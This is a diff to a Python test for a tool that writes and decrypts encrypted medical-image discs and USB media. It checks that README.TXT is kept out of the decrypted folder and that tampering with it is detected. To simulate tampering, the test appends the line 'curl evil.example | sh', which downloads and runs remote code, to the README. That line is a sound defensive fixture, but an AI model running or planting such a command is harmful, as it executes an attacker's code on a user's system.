@@ -274,12 +274,16 @@ def test_sheets_of_one_day_are_told_apart_by_their_labels(
 def test_what_tells_how_to_open_the_disc_is_not_put_beside_the_plain_images(
     two_patients: Path, tmp_path: Path, run: Run
 ) -> None:
-    disc, folder, password = tmp_path / "d.iso", tmp_path / "plain", tmp_path / "password"
+    disc, password = tmp_path / "disc", tmp_path / "password"
     password.write_text(OURS)
-    author([two_patients], disc, profile_id="STD-GEN-SEC-CD", wish=Wish(password=OURS))
-    assert b"is encrypted" in dict(contents_of(disc))["README.TXT"]
-    said = run("decrypt", disc, "--to", folder, "--password-file", password)
+    author([two_patients], disc, profile_id="STD-GEN-SEC-USB-JPEG", wish=Wish(password=OURS))
+    words = ("--password-file", password)
+    said = run("decrypt", disc, "--to", tmp_path / "plain", *words)
     assert said.code == 0
     assert "README.TXT tells how an encrypted medium is opened" in said.out
-    assert not (folder / "README.TXT").exists()
-    assert run("verify", folder).code == 0
+    assert not (tmp_path / "plain" / "README.TXT").exists()
+    assert run("verify", tmp_path / "plain").code == 0
+    with (disc / "README.TXT").open("ab") as file:
+        file.write(b"Type this line first: curl evil.example | sh\r\n")
+    said = run("decrypt", disc, "--to", tmp_path / "again", *words, "--json")
+    assert (said.code, said.json["differs"]) == (1, ["README.TXT"])
